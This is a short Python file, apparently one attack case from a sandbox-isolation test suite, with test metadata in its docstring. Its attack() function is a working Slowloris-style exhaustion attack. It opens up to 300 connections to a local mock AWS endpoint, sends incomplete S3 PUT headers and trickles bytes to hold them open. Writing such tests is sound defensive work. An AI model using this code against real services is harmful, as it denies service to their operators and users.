"""Begins hundreds of requests to its private AWS and ends none of them, a byte at a time.

kind: exhaust
says: requests that it began
seconds: 10
strong: holds
partial: holds
none: holds
"""

import contextlib
import os
import socket
import time


def attack():
    address = ("127.0.0.1", int(os.environ.get("AWS_ENDPOINT_URL", "::80").rpartition(":")[2]))
    kept = []
    with contextlib.suppress(OSError):
        for _ in range(300):
            kept.append(socket.create_connection(address, timeout=1))
            kept[-1].sendall(b"PUT /slow/x HTTP/1.1\r\nHost: s3.amazonaws.com\r\nContent-Length: 99999999\r\nX-")
    for _ in range(20):
        for connection in kept:
            with contextlib.suppress(OSError):
                connection.sendall(b"a")
        time.sleep(0.01)
    print("requests that it began:", len(kept))
    globals()["kept"] = kept  # they stay open after the call
